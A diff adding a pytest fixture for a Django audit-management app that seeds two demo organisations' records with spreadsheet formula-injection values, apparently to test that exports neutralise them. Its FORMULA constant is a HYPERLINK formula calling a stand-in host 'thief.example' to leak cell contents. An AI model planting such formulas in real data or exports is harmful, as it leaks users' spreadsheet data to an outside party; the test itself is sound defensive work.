@@ -1,0 +1,92 @@
+"""One world for all that walks through it: both demo organisations and what the demo lacks, made once, rolled back.
+
+What a person may type freely reads as a formula in the records added here, so that exports meet it.
+"""
+
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from django.core.management import call_command
+from django.db import transaction
+
+from aims.tenancy.actions import issue_token
+from aims.tenancy.models import Member, Organisation
+from aims.tenancy.permissions import Role
+from aims.tenancy.scope import organisation_scope, working_in
+from tests.audits import making
+from tests.audits.material import ask
+from tests.factories import make_control, make_evidence, make_risk, make_system
+
+FORMULA = '=HYPERLINK("https://thief.example/?"&A1,"@open")'
+
+
+class World:
+    """The demo organisations, and who is who in them."""
+
+    def __init__(self, media: Path) -> None:
+        self.media = media
+        self.acme = Organisation.objects.get(slug="acme")
+        self.globex = Organisation.objects.get(slug="globex")
+
+    def member(self, organisation: Organisation, who: str) -> Member:
+        """`world.member(world.acme, "officer")`."""
+        domain = "assessor.example" if who == "certifier" else f"{organisation.slug}.example"
+        with organisation_scope(organisation):
+            return Member.objects.select_related("user", "organisation").get(user__email=f"{who}@{domain}")
+
+
+class Troupe:
+    """The members of a demo organisation under the names by which the makers of records know them."""
+
+    def __init__(self, world: World, organisation: Organisation) -> None:
+        self.organisation = organisation
+        self.slug = organisation.slug
+        with organisation_scope(organisation):
+            for name, role in [
+                ("officer", Role.GOVERNANCE_OFFICER), ("owner", Role.SYSTEM_OWNER), ("contributor", Role.CONTRIBUTOR),
+                ("auditor", Role.INTERNAL_AUDITOR), ("executive", Role.EXECUTIVE),
+            ]:  # fmt: skip
+                members = Member.objects.holding(role).select_related("user", "organisation").order_by("created_at")
+                setattr(self, name, members[0])
+
+
+def complete(troupe: Troupe) -> None:
+    """An audit, a finding, a nonconformity with actions, a review, a pack, a token; every free text a formula."""
+    formula = f"{FORMULA} {troupe.slug}"
+    audit = making.make_running_audit(troupe, title=formula)
+    making.make_finding(troupe, audit, statement=formula)
+    nonconformity = making.make_analysed(troupe, title=formula)
+    making.make_action(troupe, nonconformity, description=formula)
+    making.make_decided(troupe, title=formula)
+    making.make_audit(troupe, title="-2+3")
+    making.make_nonconformity(troupe, title="+1")
+    making.make_review(troupe, title="@SUM(1)")
+    ask(troupe, title=formula)
+    make_system(troupe.officer, formula, purpose="\t=1")
+    make_risk(troupe.officer, title=formula)
+    make_control(troupe.officer, title=formula)
+    make_evidence(troupe.officer, title=formula)
+    with working_in(troupe.organisation):
+        issue_token(troupe.officer, name=formula, scopes=["read"], days=1, actor=None)
+
+
+@pytest.fixture(scope="package")
+def world(django_db_setup, django_db_blocker, tmp_path_factory) -> Iterator[World]:
+    from django.test import override_settings
+
+    media = tmp_path_factory.mktemp("world")
+    with django_db_blocker.unblock(), transaction.atomic(), override_settings(MEDIA_ROOT=media):
+        call_command("load_demo", verbosity=0)
+        world = World(media)
+        for organisation in (world.acme, world.globex):
+            complete(Troupe(world, organisation))
+        yield world
+        transaction.set_rollback(True)
+
+
+@pytest.fixture(autouse=True)
+def files_of_the_world(request, quiet_settings, settings) -> None:
+    """Downloads find the files that the world was made with."""
+    if "world" in request.fixturenames:
+        settings.MEDIA_ROOT = request.getfixturevalue("world").media
